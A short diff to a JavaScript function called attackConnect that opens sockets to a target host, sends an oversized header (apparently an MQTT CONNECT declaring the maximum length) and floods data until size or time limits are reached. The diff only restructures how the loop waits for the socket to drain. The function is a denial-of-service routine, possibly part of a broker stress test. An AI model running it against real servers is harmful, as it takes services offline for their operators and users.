@@ -122,7 +122,12 @@ export async function attackConnect(host, port, sockets = 2, mb = 150, ms = 15_0
       if (s.destroyed) return;
       s.write(Buffer.from([0x10, 0xff, 0xff, 0xff, 0x7f]));
       while (!s.destroyed && sent[i] < mb * 1024 * 1024 && Date.now() < until) {
-        if (!s.write(chunk)) await new Promise((r) => (s.once('drain', r), s.once('close', r)));
+        if (!s.write(chunk)) {
+          await new Promise((r) => {
+            s.once('drain', r);
+            s.once('close', r);
+          });
+        }
         sent[i] += chunk.length;
       }
     }),
